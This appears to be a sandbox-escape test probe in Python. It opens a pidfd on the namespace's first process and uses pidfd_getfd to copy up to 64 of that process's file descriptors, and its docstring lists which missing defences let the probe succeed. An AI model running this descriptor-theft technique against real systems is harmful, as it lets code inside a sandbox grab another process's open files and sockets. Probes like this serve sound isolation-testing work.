"""Take descriptors out of the keeper, the first process of the namespace.

falls without: seccomp, landlock, keeper dumpable
tiers: T1
ends: EXITED
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
keeper = libc.syscall(434, 1, 0)  # pidfd_open
if keeper < 0:
    raise SystemExit(0)
for handle in range(64):
    taken = libc.syscall(438, keeper, handle, 0)  # pidfd_getfd
    if taken >= 0:
        print("GOT", handle)
